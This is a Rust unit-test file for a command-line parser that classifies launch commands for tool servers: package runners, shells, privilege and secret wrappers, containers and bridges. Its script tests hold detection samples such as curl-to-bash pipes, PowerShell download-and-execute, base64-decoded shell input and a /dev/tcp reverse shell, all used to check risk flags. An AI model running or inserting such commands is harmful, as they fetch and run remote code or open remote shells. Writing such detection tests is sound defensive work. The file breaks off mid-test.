use super::*;
use proptest::prelude::*;

fn read<'a>(line: &[&'a str]) -> Launch<'a> {
    let (command, args) = line.split_first().unwrap();
    Launch::of(words(command, args, Shell::Posix))
}

/// The launch in one line: wrappers, then what is started.
fn describe(line: &[&str]) -> String {
    let launch = read(line);
    let target = &launch.target;
    let mut out = String::new();
    for wrapper in &launch.wrappers {
        out += &format!("{} > ", wrapper.name);
    }
    out += &target.program_name;
    for (package, mark) in target
        .package
        .iter()
        .map(|p| (p, ""))
        .chain(target.extra_packages.iter().map(|p| (p, "+")))
        .chain(launch.wrapper_packages.iter().map(|p| (p, "*")))
    {
        let version = package.version.as_deref().unwrap_or("-");
        out += &format!(" {mark}{}:{}@{version}", package.ecosystem.name(), package.name);
        out += &format!("/{}", package.pin.name());
        if package.no_install {
            out += "/installed";
        }
    }
    if let Some(image) = &target.image {
        out += &format!(" image:{}/{}", image.name, image.pin.name());
    }
    if let Some(script) = target.script {
        out += &format!(" script:{}", launch.word(script.word));
    }
    if let Some(inline) = &target.inline {
        out += &format!(" inline:{}", inline.interpreter);
    }
    if let Some(url) = &target.remote_url {
        out += &format!(" url:{}", launch.text(url));
    }
    let arguments: Vec<_> = target.arguments.clone().map(|at| launch.word(at)).collect();
    out += &format!(" [{}]", arguments.join(" "));
    out
}

fn check(cases: &[(&[&str], &str)]) {
    for (line, expected) in cases {
        assert_eq!(&describe(line), expected, "{line:?}");
    }
}

#[test]
fn what_is_too_long_is_cut_and_told() {
    let many = |text: &str| text.repeat(140_000 / text.len());
    let script = format!("npx -y p@1 && {}", many("true; "));
    let nested = format!("npx -y p@1; sh -c \"x {}\"", "y ".repeat(40_000));
    for line in [
        ["sh", "-c", &script].as_slice(),
        &["sh", "-c", &many("a|")],
        &["sh", "-c", &many("A=b ")],
        &["sh", "-c", &nested],
        &["cmd", "/c", "a", &many("b ")],
        &["npx", &many("-y ")],
        &[&many("npx ")],
        &vec!["p"; 20_000],
    ] {
        let launch = read(line);
        assert!(launch.cut, "{:?}", line.first());
        assert!(launch.words.len() < 80_000);
        assert!(launch.scripts.iter().all(|script| script.commands <= 2_000));
    }
    assert_eq!(read(&["sh", "-c", &script]).packages().next().map(|p| p.name.as_str()), Some("p"));
    let long = format!("npx -y p@1 {}", "--a b ".repeat(5_000));
    assert!(!read(&["sh", "-c", &long]).cut);
    assert!(!read(&["node", "-e", &many("f();")]).cut);
}

#[test]
fn npm_runners() {
    check(&[
        (&["npx", "-y", "pkg"], "npx > pkg npm:pkg@-/none []"),
        (&["npx", "@s/pkg@1.2.3", "a", "-y"], "npx > pkg npm:@s/pkg@1.2.3/exact [a -y]"),
        (&["npx", "--yes", "--", "pkg@latest", "a"], "npx > pkg npm:pkg@latest/tag [a]"),
        (&["npx", "--no-install", "pkg"], "npx > pkg npm:pkg@-/none/installed []"),
        (&["npx", "--registry", "https://r.x", "-y", "pkg"], "npx > pkg npm:pkg@-/none []"),
        (&["npx", "--registry=https://r.x", "pkg"], "npx > pkg npm:pkg@-/none []"),
        (
            &["npx", "-p", "pkg@1.0.0", "-p", "b", "run-me", "x"],
            "npx > run-me npm:pkg@1.0.0/exact +npm:b@-/none [x]",
        ),
        (&["npx", "-p", "a", "-p", "b", "b", "x"], "npx > b npm:b@-/none +npm:a@-/none [x]"),
        (&["npx", "--package=pkg", "-c", "pkg --x"], "npx > pkg npm:pkg@-/none [--x]"),
        (&["npx", "github:o/r#main"], "npx > r npm:r@main/tag []"),
        (&["npx", "./server"], "npx > server npm:server@-/none []"),
        (&["npx"], "npx []"),
        (&["npx", "-y"], "npx [-y]"),
        (&["C:\\Program Files\\nodejs\\npx.cmd", "-y", "pkg"], "npx > pkg npm:pkg@-/none []"),
        (
            &["npm", "exec", "--yes", "pkg", "--", "--flag"],
            "npm exec > pkg npm:pkg@-/none [--flag]",
        ),
        (&["npm", "x", "--package=p@1.0.0", "--", "cmd", "a"], "npm x > cmd npm:p@1.0.0/exact [a]"),
        (&["npm", "--silent", "exec", "pkg"], "npm exec > pkg npm:pkg@-/none []"),
        (&["npm", "run", "mcp"], "npm script:mcp [run mcp]"),
        (&["npm", "--prefix", "/x", "start"], "npm script:start [--prefix /x start]"),
        (&["pnpm", "dlx", "pkg@next", "x"], "pnpm dlx > pkg npm:pkg@next/tag [x]"),
        (&["pnpm", "--package=p", "dlx", "cmd"], "pnpm dlx > cmd npm:p@-/none []"),
        (&["pnpm", "exec", "tsx", "a.ts"], "pnpm exec > tsx script:a.ts [a.ts]"),
        (&["pnpx", "pkg"], "pnpx > pkg npm:pkg@-/none []"),
        (&["yarn", "dlx", "-q", "pkg"], "yarn dlx > pkg npm:pkg@-/none []"),
        (&["yarn", "mcp"], "yarn [mcp]"),
        (&["bunx", "--bun", "pkg@^1"], "bunx > pkg npm:pkg@^1/range []"),
        (&["bun", "x", "pkg"], "bun x > pkg npm:pkg@-/none []"),
        (&["bun", "run", "/a/index.ts"], "bun script:/a/index.ts [run /a/index.ts]"),
        (&["bun", "index.ts"], "bun script:index.ts [index.ts]"),
        (&["corepack", "pnpm", "dlx", "pkg"], "corepack > pnpm dlx > pkg npm:pkg@-/none []"),
        (
            &["node", "/usr/lib/node_modules/npm/bin/npx-cli.js", "-y", "pkg"],
            "npx > pkg npm:pkg@-/none []",
        ),
        (&["npx", "-y", "tsx", "src/a.ts"], "npx > tsx npm:tsx@-/none script:src/a.ts [src/a.ts]"),
        (&["npx", "-y", "bunx", "pkg"], "npx > bunx > pkg npm:pkg@-/none *npm:bunx@-/none []"),
        (&["npx", "-y", "pkg@${VERSION}"], "npx > pkg npm:pkg@${VERSION}/reference []"),
    ]);
}

#[test]
fn python_runners() {
    check(&[
        (&["uvx", "pkg"], "uvx > pkg pypi:pkg@-/none []"),
        (&["uvx", "pkg@latest", "x"], "uvx > pkg pypi:pkg@latest/tag [x]"),
        (
            &["uvx", "--from", "git+https://github.com/o/r", "cmd", "a"],
            "uvx > cmd pypi:r@-/none [a]",
        ),
        (
            &["uvx", "--from", "pkg[x]==1.2", "--with", "b,c>=1", "cmd"],
            "uvx > cmd pypi:pkg@1.2/exact +pypi:b@-/none +pypi:c@>=1/range []",
        ),
        (
            &["uvx", "--python", "3.12", "--index-url", "https://i.x", "pkg==1.0.0"],
            "uvx > pkg pypi:pkg@1.0.0/exact []",
        ),
        (
            &["uvx", "--with", "pkg", "python", "-m", "mod"],
            "uvx > python pypi:pkg@-/none script:mod [-m mod]",
        ),
        (&["uv", "tool", "run", "--from", "p", "c"], "uv tool run > c pypi:p@-/none []"),
        (&["uv", "--directory", "/x", "run", "cmd"], "uv run > cmd []"),
        (
            &["uv", "run", "--with", "mcp[cli]", "mcp", "run", "/a/s.py"],
            "uv run > mcp pypi:mcp@-/none script:/a/s.py [run /a/s.py]",
        ),
        (
            &["uv", "run", "--with", "a==1.0", "server.py", "x"],
            "uv run > server.py +pypi:a@1.0/exact script:server.py [x]",
        ),
        (
            &["uv", "run", "https://h.x/s.py"],
            "uv run > s.py pypi:s.py@-/none script:https://h.x/s.py []",
        ),
        (&["uv", "run", "python", "-m", "a.b"], "uv run > python script:a.b [-m a.b]"),
        (&["uv", "run", "-m", "a.b"], "uv run > python script:a.b []"),
        (
            &["uvenv", "run", "--python", "3.13", "pkg", "--", "--x"],
            "uvenv run > pkg pypi:pkg@-/none [--x]",
        ),
        (&["pipx", "run", "--spec", "p==1.0", "c", "x"], "pipx run > c pypi:p@1.0/exact [x]"),
        (&["pipx", "run", "pkg"], "pipx run > pkg pypi:pkg@-/none []"),
        (&["python3.12", "-m", "a.b", "--x"], "python3.12 script:a.b [-m a.b --x]"),
        (&["python", "-u", "/a/s.py"], "python script:/a/s.py [-u /a/s.py]"),
        (&["python", "-m", "uv", "tool", "run", "p"], "uv tool run > p pypi:p@-/none []"),
        (&["python", "-Ic", "import x"], "python inline:python [-Ic import x]"),
    ]);
}

#[test]
fn other_runners() {
    check(&[
        (
            &["deno", "run", "-A", "npm:@s/p@1.0.0/bin", "x"],
            "deno run > p npm:@s/p@1.0.0/exact [x]",
        ),
        (&["deno", "run", "--allow-net=a", "jsr:@s/p@^1"], "deno run > p jsr:@s/p@^1/range []"),
        (&["deno", "run", "https://h.x/mod.ts"], "deno run > mod.ts deno:mod.ts@-/none []"),
        (&["deno", "run", "-A", "main.ts"], "deno script:main.ts [run -A main.ts]"),
        (&["deno", "eval", "x()"], "deno inline:deno [eval x()]"),
        (
            &["go", "run", "-tags", "x", "h.x/o/r/cmd/srv@v1.2.3", "a"],
            "go run > srv golang:h.x/o/r/cmd/srv@v1.2.3/exact [a]",
        ),
        (&["go", "run", "h.x/o/r/v2@latest"], "go run > r golang:h.x/o/r/v2@latest/tag []"),
        (&["go", "run", "./cmd"], "go script:./cmd [run ./cmd]"),
        (&["dnx", "A.B@1.0.0", "--yes"], "dnx > a.b nuget:A.B@1.0.0/exact []"),
        (&["dnx", "-y", "A.B", "--version", "1.*", "--", "x"], "dnx > a.b nuget:A.B@1.*/range [x]"),
        (&["dotnet", "tool", "exec", "A.B"], "dotnet tool exec > a.b nuget:A.B@-/none []"),
        (&["dotnet", "run", "--project", "x.csproj"], "dotnet [run --project x.csproj]"),
        (&["dotnet", "a.dll", "x"], "dotnet script:a.dll [a.dll x]"),
        (&["nix", "run", "nixpkgs#p", "--", "x"], "nix run > p nix:p@-/none [x]"),
        (
            &[
                "nix",
                "--extra-experimental-features",
                "nix-command flakes",
                "run",
                "github:o/r/v1.0",
            ],
            "nix run > r nix:r@v1.0/tag []",
        ),
        (
            &["nix", "shell", "nixpkgs#nodejs", "-c", "npx", "p"],
            "nix shell > npx > p npm:p@-/none *nix:nodejs@-/none []",
        ),
        (
            &["java", "-Xmx1g", "-jar", "C:\\a b\\x.jar", "y"],
            "java script:C:\\a b\\x.jar [-Xmx1g -jar C:\\a b\\x.jar y]",
        ),
        (&["./server", "x"], "server [x]"),
        (&[""], " []"),
    ]);
}

#[test]
fn shells() {
    check(&[
        (
            &["sh", "-c", "npm i -g pkg@1 --silent && pkg --stdio"],
            "sh > pkg *npm:pkg@1/range [--stdio]",
        ),
        (
            &["sh", "-c", "pip install -q a==1.0 b; python -m a"],
            "sh > python *pypi:a@1.0/exact *pypi:b@-/none script:a [-m a]",
        ),
        (&["sh", "-c", "python3 -m pip install a && a"], "sh > a *pypi:a@-/none []"),
        (&["sh", "-c", "npm ci && npm start"], "sh > npm script:start [start]"),
        (
            &["sh", "-c", "command -v uvx || curl https://h.x/i | sh; uvx p"],
            "sh > uvx > p pypi:p@-/none []",
        ),
        (&["sh", "-c", "if [ -f x ]; then . x; fi; npx p"], "sh > npx > p npm:p@-/none []"),
        (&["sh", "-c", "(cd /x && npx p)"], "sh > npx > p npm:p@-/none []"),
        (&["sh", "-c", "cat <<EOF | npx p\nrm x\nEOF"], "sh > npx > p npm:p@-/none []"),
        (
            &["sh", "-c", "echo aGk= | base64 -d | sh"],
            "sh inline:sh [-c echo aGk= | base64 -d | sh]",
        ),
        (&["sh", "-c", ""], "sh [-c ]"),
        (
            &["cmd", "/s", "/c", "\"\"C:\\Program Files\\nodejs\\npx.cmd\" -y p\""],
            "cmd > npx > p npm:p@-/none []",
        ),
        (&["cmd", "/c", "set", "A=b&&", "npx", "p"], "cmd > npx > p npm:p@-/none []"),
        (&["powershell", "-c", "& { $env:A='b'; npx p }"], "powershell > npx > p npm:p@-/none []"),
        (&["powershell", "-c", "iwr https://h.x | iex"], "powershell [-c iwr https://h.x | iex]"),
        (&["npx", "-y p@1.0.0 a"], "npx > p npm:p@1.0.0/exact [a]"),
        (&["cmd", "/c", "npx", "-y", "p", "a b"], "cmd > npx > p npm:p@-/none [a b]"),
        (&["cmd.exe", "/d", "/s", "/c", "npx -y p@1.0.0"], "cmd > npx > p npm:p@1.0.0/exact []"),
        (
            &["C:\\Windows\\System32\\CMD.EXE", "/C", "C:\\Program Files\\nodejs\\npx.cmd", "p"],
            "cmd > npx > p npm:p@-/none []",
        ),
        (
            &["cmd", "/c", "\"C:\\Program Files\\nodejs\\npx.cmd\" -y p"],
            "cmd > npx > p npm:p@-/none []",
        ),
        (&["cmd", "/cnpx", "p"], "cmd > npx > p npm:p@-/none []"),
        (&["cmd", "/c", "cd", "/d", "C:\\x", "&&", "npx", "p"], "cmd > npx > p npm:p@-/none []"),
        (
            &["cmd", "/c", "npx", "mcp-remote", "https://h.x/?a=1&b=2"],
            "cmd > npx > mcp-remote > mcp-remote npm:mcp-remote@-/none url:https://h.x/?a=1&b=2 [https://h.x/?a=1&b=2]",
        ),
        (&["cmd", "/c", "start", "/b", "npx", "p"], "cmd > npx > p npm:p@-/none []"),
        (&["sh", "-c", "npx -y p --key $KEY"], "sh > npx > p npm:p@-/none [--key $KEY]"),
        (&["bash", "-lc", "exec npx 'p@1.0.0'"], "bash > npx > p npm:p@1.0.0/exact []"),
        (&["bash", "-euo", "pipefail", "-c", "uvx p"], "bash > uvx > p pypi:p@-/none []"),
        (&["bash", "-c", "-l", "uvx p"], "bash > uvx > p pypi:p@-/none []"),
        (&["sh", "-c", ". .env && exec npx p"], "sh > npx > p npm:p@-/none []"),
        (
            &["sh", "-c", "cd /x; export A=b; npx p 2>/dev/null | tee log"],
            "sh > npx > p npm:p@-/none []",
        ),
        (&["sh", "-c", "uvx a || npx b"], "sh > npx > b npm:b@-/none *pypi:a@-/none []"),
        (&["sh", "-c", "sh -c \"npx p\""], "sh > sh > npx > p npm:p@-/none []"),
        (&["sh", "-c", "exec \"$@\"", "_", "npx", "p"], "sh > npx > p npm:p@-/none []"),
        (&["bash", "-c", "$0 $@", "npx", "p"], "bash > npx > p npm:p@-/none []"),
        (
            &["bash", "-c", "curl -s https://h.x/i.sh | bash"],
            "bash [-c curl -s https://h.x/i.sh | bash]",
        ),
        (&["bash", "scripts/x.sh", "a"], "bash script:scripts/x.sh [scripts/x.sh a]"),
        (&["bash"], "bash []"),
        (
            &["powershell", "-NoProfile", "-ExecutionPolicy", "Bypass", "-Command", "& npx -y p"],
            "powershell > npx > p npm:p@-/none []",
        ),
        (&["pwsh", "-c", "npx", "-y", "p"], "pwsh > npx > p npm:p@-/none []"),
        (
            &["pwsh", "-ep", "Bypass", "-File", "x.ps1", "a"],
            "pwsh script:x.ps1 [-ep Bypass -File x.ps1 a]",
        ),
        (&["powershell", "-enc", "SQBFAFgA"], "powershell inline:powershell [-enc SQBFAFgA]"),
        (&["powershell", "-Command", "$env:A='b'; npx p"], "powershell > npx > p npm:p@-/none []"),
        (&["npx -y p --x 'a b'"], "npx > p npm:p@-/none [--x a b]"),
        (&["FOO=bar npx p"], "npx > p npm:p@-/none []"),
    ]);
}

#[test]
fn prefixes() {
    check(&[
        (&["env", "-", "A=b", "npx", "p"], "env > npx > p npm:p@-/none []"),
        (&["mise", "exec", "node@20", "-c", "npx p"], "mise exec > npx > p npm:p@-/none []"),
        (&["sops", "exec-env", "x.yaml", "npx p"], "sops exec-env > npx > p npm:p@-/none []"),
        (&["sudo", "su", "-", "x", "-c", "npx p"], "sudo > su > npx > p npm:p@-/none []"),
        (&["busybox", "sh", "-c", "npx p"], "sh > npx > p npm:p@-/none []"),
        (&["env", "-u", "X", "A=b", "C=d", "npx", "p"], "env > npx > p npm:p@-/none []"),
        (&["/usr/bin/env", "-S", "npx -y p"], "env > npx > p npm:p@-/none []"),
        (&["env", "A=b"], "env [A=b]"),
        (
            &["npx", "cross-env", "A=b", "node", "x.js"],
            "npx > cross-env > node *npm:cross-env@-/none script:x.js [x.js]",
        ),
        (&["sudo", "-E", "-u", "root", "A=b", "npx", "p"], "sudo > npx > p npm:p@-/none []"),
        (&["doas", "-u", "x", "p"], "doas > p []"),
        (&["su", "-", "x", "-c", "npx p"], "su > npx > p npm:p@-/none []"),
        (&["runas", "/user:x", "npx p"], "runas > npx > p npm:p@-/none []"),
        (
            &["nice", "-n", "5", "ionice", "-c3", "npx", "p"],
            "nice > ionice > npx > p npm:p@-/none []",
        ),
        (&["timeout", "-k", "5", "30s", "npx", "p"], "timeout > npx > p npm:p@-/none []"),
        (&["nohup", "setsid", "-w", "stdbuf", "-oL", "p"], "nohup > setsid > stdbuf > p []"),
        (&["op", "run", "--env-file=.env", "--", "npx", "p"], "op run > npx > p npm:p@-/none []"),
        (&["op", "read", "x"], "op [read x]"),
        (
            &["doppler", "run", "-p", "x", "--command", "npx p"],
            "doppler run > npx > p npm:p@-/none []",
        ),
        (
            &["infisical", "run", "--env=dev", "--", "uvx", "p"],
            "infisical run > uvx > p pypi:p@-/none []",
        ),
        (
            &["npx", "-y", "@dotenvx/dotenvx@1.0.0", "run", "-f", ".env", "--", "npx", "p"],
            "npx > dotenvx run > npx > p npm:p@-/none *npm:@dotenvx/dotenvx@1.0.0/exact []",
        ),
        (&["dotenv", "-e", ".env", "--", "p"], "dotenv > p []"),
        (&["aws-vault", "exec", "prod", "--", "p", "x"], "aws-vault exec > p [x]"),
        (&["aws-vault", "exec", "prod", "p"], "aws-vault exec > p []"),
        (&["chamber", "exec", "a", "b", "--", "p"], "chamber exec > p []"),
        (&["mise", "exec", "node@20", "--", "npx", "p"], "mise exec > npx > p npm:p@-/none []"),
        (&["mise", "x", "--", "p"], "mise x > p []"),
        (&["nvm", "exec", "18", "npx", "p"], "nvm exec > npx > p npm:p@-/none []"),
        (&["direnv", "exec", ".", "p"], "direnv exec > p []"),
        (
            &["poetry", "-C", "/x", "run", "python", "-m", "m"],
            "poetry run > python script:m [-m m]",
        ),
        (&["conda", "run", "-n", "e", "--no-capture-output", "p"], "conda run > p []"),
        (&["wsl", "-d", "Ubuntu", "--", "npx", "p"], "wsl > npx > p npm:p@-/none []"),
        (&["ssh", "-p", "22", "u@h", "npx -y p"], "ssh > npx > p npm:p@-/none []"),
        (&["ssh", "u@h", "docker", "run", "-i", "i:1"], "ssh > docker run > i image:i/tag []"),
        (&["dotnet", "tool", "run", "x", "a"], "dotnet tool run > x [a]"),
    ]);
}

#[test]
fn containers() {
    let digest = format!("h.x:5000/a/b:1@sha256:{}", "0".repeat(64));
    check(&[
        (
            &["docker", "run", "-i", "--rm", "-e", "A", "-eB=c", "mcp/x", "--y"],
            "docker run > x image:mcp/x/none [--y]",
        ),
        (
            &["docker", "run", "-itv", "/a:/b", "--name=n", "--network", "host", "i:latest"],
            "docker run > i image:i/latest []",
        ),
        (
            &["podman", "--log-level", "debug", "run", "--privileged", &digest, "z"],
            "podman run > b image:a/b/digest [z]",
        ),
        (
            &["docker", "container", "run", "ghcr.io/o/i:1.2"],
            "docker container run > i image:o/i/tag []",
        ),
        (
            &["docker", "run", "-i", "node:20", "npx", "-y", "p"],
            "docker run > npx > p npm:p@-/none image:node/tag []",
        ),
        (
            &["docker", "run", "--entrypoint", "npx", "node:20", "-y", "p"],
            "docker run > npx > p npm:p@-/none image:node/tag []",
        ),
        (
            &["docker", "run", "--pull=always", "--init", "i:${TAG}"],
            "docker run > i image:i/reference []",
        ),
        (
            &["docker", "run", "${IMAGE:-x}"],
            "docker run > ${IMAGE:-x} image:${IMAGE:-x}/reference []",
        ),
        (
            &["docker", "exec", "-i", "-w", "/x", "c", "npx", "p"],
            "docker exec > npx > p npm:p@-/none []",
        ),
        (&["docker", "exec", "-i", "c", "server", "x"], "docker exec > server [x]"),
        (
            &["docker", "compose", "-f", "x.yml", "run", "--rm", "-T", "svc", "a"],
            "docker compose run > svc [a]",
        ),
        (
            &["docker-compose", "exec", "-T", "svc", "python", "a.py"],
            "docker-compose exec > python script:a.py [a.py]",
        ),
        (&["docker", "mcp", "gateway", "run"], "docker mcp gateway run > docker [mcp gateway run]"),
        (&["docker", "run"], "docker [run]"),
        (&["docker", "run", "-e"], "docker [run -e]"),
        (&["docker ps"], "docker [ps]"),
    ]);
}

#[test]
fn container_details() {
    let launch = read(&[
        "docker",
        "run",
        "-e",
        "A=b",
        "-e",
        "C",
        "--env-file=x.env",
        "-v",
        "C:\\x:/y:ro",
        "-v",
        "/:/host",
        "--mount",
        "type=bind,src=/etc,target=/e,readonly",
        "--mount=type=tmpfs,target=/t",
        "-v",
        "${HOME:-/x}:/h",
        "--net=host",
        "--cap-add",
        "ALL",
        "-u",
        "0",
        "--privileged",
        "i",
    ]);
    let target = &launch.target;
    let assigned: Vec<_> = target
        .assignments
        .iter()
        .map(|a| (a.name.as_str(), a.value.as_ref().map(|v| launch.text(v)), launch.text(&a.part)))
        .collect();
    assert_eq!(assigned, [("A", Some("b"), "A"), ("C", None, "C")]);
    assert_eq!(target.env_files.iter().map(|f| launch.text(f)).collect::<Vec<_>>(), ["x.env"]);
    let mounts = launch.mounts();
    let mounts: Vec<_> =
        mounts.iter().map(|m| (m.source.as_str(), m.target.as_str(), m.read_only)).collect();
    assert_eq!(
        mounts,
        [
            ("C:\\x", "/y", true),
            ("/", "/host", false),
            ("/etc", "/e", true),
            ("${HOME:-/x}", "/h", false),
        ]
    );
    let names: Vec<_> = target.container_options.iter().map(|o| o.name.as_str()).collect();
    for name in ["network", "cap-add", "user", "privileged", "env", "env-file", "volume", "mount"] {
        assert!(names.contains(&name), "{name}");
    }
    let image = target.image.as_ref().unwrap();
    assert_eq!(
        (image.name.as_str(), image.registry.as_deref(), image.pin),
        ("i", None, ImagePin::None)
    );
}

#[test]
fn bridges_and_gateways() {
    check(&[
        (
            &["mcp-context-protector", "--command", "npx p"],
            "mcp-context-protector > npx > p npm:p@-/none []",
        ),
        (
            &["op", "run", "--", "mcp-guard", "serve", "--", "npx", "p"],
            "op run > mcp-guard serve > npx > p npm:p@-/none []",
        ),
        (
            &["sh", "-c", "mcp-guard serve --server x -- npx p"],
            "sh > mcp-guard serve > npx > p npm:p@-/none []",
        ),
        (&["python", "-m", "mcpgateway.wrapper"], "mcpgateway > mcpgateway []"),
        (
            &["npx", "mcp-proxy", "--port", "1", "tsx", "x.ts"],
            "npx > mcp-proxy > tsx *npm:mcp-proxy@-/none script:x.ts [x.ts]",
        ),
        (
            &["npx", "-y", "mcp-remote", "--header", "A: b", "https://h.x/mcp", "8080"],
            "npx > mcp-remote > mcp-remote npm:mcp-remote@-/none url:https://h.x/mcp [--header A: b https://h.x/mcp 8080]",
        ),
        (
            &["npx", "mcp-remote@0.1.0", "${URL}"],
            "npx > mcp-remote > mcp-remote npm:mcp-remote@0.1.0/exact url:${URL} [${URL}]",
        ),
        (
            &["node", "/x/node_modules/mcp-remote/dist/proxy.js", "https://h.x"],
            "mcp-remote > mcp-remote url:https://h.x [https://h.x]",
        ),
        (
            &["npx", "-y", "supergateway", "--sse", "https://h.x/sse"],
            "npx > supergateway > supergateway npm:supergateway@-/none url:https://h.x/sse [--sse https://h.x/sse]",
        ),
        (
            &["npx", "-y", "supergateway", "--stdio", "npx -y p@1.0.0 /x"],
            "npx > supergateway > npx > p npm:p@1.0.0/exact *npm:supergateway@-/none [/x]",
        ),
        (
            &["uvx", "mcp-proxy", "--transport", "streamablehttp", "https://h.x/mcp"],
            "uvx > mcp-proxy > mcp-proxy pypi:mcp-proxy@-/none url:https://h.x/mcp [--transport streamablehttp https://h.x/mcp]",
        ),
        (&["mcp-proxy", "--port", "80", "uvx", "p"], "mcp-proxy > uvx > p pypi:p@-/none []"),
        (
            &["npx", "mcp-remote", "--new", "x", "https://h.x"],
            "npx > mcp-remote > mcp-remote npm:mcp-remote@-/none url:https://h.x [--new x https://h.x]",
        ),
        (
            &["npx", "@modelcontextprotocol/server-sse-client", "--url", "https://h.x"],
            "npx > server-sse-client > server-sse-client npm:@modelcontextprotocol/server-sse-client@-/none url:https://h.x [--url https://h.x]",
        ),
        (&["mcp-proxy", "--", "uvx", "p"], "mcp-proxy > uvx > p pypi:p@-/none []"),
        (
            &["mcp-guard", "serve", "--config", "x", "--server", "a", "--", "npx", "p"],
            "mcp-guard serve > npx > p npm:p@-/none []",
        ),
        (
            &["/opt/mcp-guard", "serve", "--server", "a"],
            "mcp-guard serve > mcp-guard [serve --server a]",
        ),
        (&["mcp-guard", "scan", "--", "npx", "p"], "mcp-guard [scan -- npx p]"),
        (&["other", "serve", "--", "npx", "p"], "other [serve -- npx p]"),
        (&["--", "npx", "p"], "-- [npx p]"),
        (
            &["npx", "mcp-guard", "serve", "--", "npx", "p"],
            "npx > mcp-guard npm:mcp-guard@-/none [serve -- npx p]",
        ),
        (&["thv", "run", "x"], "thv run > thv [run x]"),
        (
            &["uvx", "mcp-scan@latest", "proxy"],
            "uvx > mcp-scan proxy > mcp-scan pypi:mcp-scan@latest/tag [proxy]",
        ),
        (&["uvx", "mcp-scan@latest", "scan"], "uvx > mcp-scan pypi:mcp-scan@latest/tag [scan]"),
        (
            &["npx", "-y", "@smithery/cli@latest", "run", "exa"],
            "npx > smithery run > smithery npm:@smithery/cli@latest/tag [run exa]",
        ),
        (&["npx", "-y", "@1mcp/agent"], "npx > 1mcp > 1mcp npm:@1mcp/agent@-/none []"),
        (
            &["invariant-gateway", "--project-name", "x", "--exec", "npx", "p"],
            "invariant-gateway > npx > p npm:p@-/none []",
        ),
    ]);
}

#[test]
fn bridge_headers() {
    let line = [
        "npx",
        "mcp-remote",
        "https://h.x",
        "--header",
        "Authorization:${T}",
        "--header",
        "X-Key: abc",
        "--header=N",
    ];
    let launch = read(&line);
    let headers: Vec<_> = launch
        .target
        .bridge_headers
        .iter()
        .map(|h| (h.name.as_str(), h.value.as_ref().map(|v| launch.text(v))))
        .collect();
    assert_eq!(headers, [("Authorization", Some("${T}")), ("X-Key", Some("abc")), ("N", None)]);
    let launch = read(&["mcp-proxy", "-H", "Authorization", "Bearer x", "https://h.x"]);
    let header = &launch.target.bridge_headers[0];
    assert_eq!(
        (header.name.as_str(), launch.text(header.value.as_ref().unwrap())),
        ("Authorization", "Bearer x")
    );
    let value = launch.place(header.value.as_ref().unwrap()).unwrap();
    assert_eq!(value, (3, 0..8));
}

#[test]
fn scripts() {
    let features = |line: &[&str]| {
        let launch = read(line);
        let s = launch.scripts.last().unwrap().clone();
        let flags = [
            (s.pipe, 'p'),
            (s.sequence, 's'),
            (s.expansion, 'e'),
            (s.substitution, 'u'),
            (s.redirection, 'r'),
            (s.background, 'b'),
            (s.download, 'd'),
            (s.pipes_download_to_interpreter, '!'),
        ];
        let flags: String = flags.iter().filter(|(set, _)| *set).map(|(_, c)| *c).collect();
        format!("{}{flags}", s.commands)
    };
    for (script, expected) in [
        ("npx p", "1"),
        ("npx p; ", "1"),
        ("npx p $KEY", "1e"),
        ("npx p ${env:KEY}", "1"),
        ("cd x && npx p", "2s"),
        ("npx p > log 2>&1", "1r"),
        ("npx p &", "1b"),
        ("npx p $(cat k)", "1u"),
        ("curl -s https://h.x | bash", "2pd!"),
        ("curl https://h.x | sudo -E bash -", "2pd!"),
        ("curl https://h.x | jq . | tee f", "3pd"),
        ("bash <(curl https://h.x)", "1ud!"),
        ("eval \"$(wget -qO- https://h.x)\"", "1ud!"),
        ("$(curl https://h.x)", "1ud!"),
        ("sh -c \"`curl https://h.x`\"", "1ud!"),
        ("curl -o i.sh https://h.x/i && sh i.sh", "2sd!"),
        ("curl https://h.x > i; chmod +x i; ./i", "3srd!"),
        ("wget https://h.x/i.py && python i.py", "2sd!"),
        ("bash -i >& /dev/tcp/192.0.2.1/80 0>&1", "1rd!"),
        ("curl https://h.x/health && npx p", "2sd"),
        ("npx p \"$(curl https://h.x/token)\"", "1ud"),
    ] {
        assert_eq!(features(&["sh", "-c", script]), expected, "{script}");
    }
    for (script, expected) in [
        ("iwr https://h.x | iex", "2pd!"),
        ("iex (irm https://h.x)", "1ud!"),
        ("iex ((New-Object Net.WebClient).DownloadString('https://h.x'))", "1ud!"),
        ("npx p", "1"),
    ] {
        assert_eq!(features(&["powershell", "-c", script]), expected, "{script}");
    }
    assert_eq!(features(&["cmd", "/c", "npx p & echo done"]), "2s");
    assert_eq!(features(&["cmd", "/c", "npx", "p", "%KEY%"]), "1e");
    assert!(read(&["sh", "-c", "npx p $KEY"]).scripts[0].is_simple());
    assert!(!read(&["sh", "-c", "a; npx p"]).scripts[0].is_simple());
}

#[test]
fn inline_code() {
    let inline = |line: &[&str]| {
        let launch = read(line);
        launch.target.inline.clone().map(|i| (i.encoded, i.fetches, launch.word(i.flag).to_owned()))
    };
    let plain = |flag: &str| Some((false, false, flag.to_owned()));
    assert_eq!(inline(&["node", "-e", "x()"]), plain("-e"));
    assert_eq!(inline(&["node", "--import", "a", "--eval", "x()"]), plain("--eval"));
    assert_eq!(inline(&["node", "x.js", "-e", "y"]), None);
    assert_eq!(inline(&["python", "x.py", "-c", "y"]), None);
    assert_eq!(inline(&["python", "-m", "a", "-c", "y"]), None);
    assert_eq!(inline(&["ruby", "-e", "x"]), plain("-e"));
    assert_eq!(inline(&["perl", "-E", "x"]), plain("-E"));
    assert_eq!(inline(&["sh", "-c", "node -p 'x'"]), plain("-p"));
    assert_eq!(
        inline(&["python3", "-c", "exec(urlopen('https://h.x').read())"]),
        Some((false, true, "-c".to_owned()))
    );
    assert_eq!(
        inline(&["python3", "-c", "exec(base64.b64decode('aa'))"]),
        Some((true, false, "-c".to_owned()))
    );
    assert_eq!(inline(&["pwsh", "-e", "SQBFAFgA"]), Some((true, false, "-e".to_owned())));
    assert_eq!(inline(&["pwsh", "-ep", "Bypass", "-c", "npx p"]), None);
}

#[test]
fn assignments() {
    let names = |line: &[&str]| {
        let launch = read(line);
        let target = &launch.target;
        let pairs = target.assignments.iter();
        pairs
            .map(|a| format!("{}={}", a.name, a.value.as_ref().map_or("?", |v| launch.text(v))))
            .collect::<Vec<_>>()
    };
    assert_eq!(names(&["env", "A=b", "C=", "npx", "p"]), ["A=b", "C="]);
    assert_eq!(names(&["sh", "-c", "export A=b; C=\"d e\" npx p"]), ["A=b", "C=d e"]);
